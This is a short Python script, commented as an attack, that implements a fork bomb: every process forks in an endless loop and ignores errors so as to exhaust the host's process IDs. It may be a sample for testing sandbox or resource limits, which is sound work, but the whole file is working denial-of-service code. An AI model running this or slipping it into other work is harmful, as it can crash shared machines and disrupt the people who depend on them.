# Attack: fork bomb. Every process forks forever (errors ignored), so the job tries to exhaust the host's pids.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
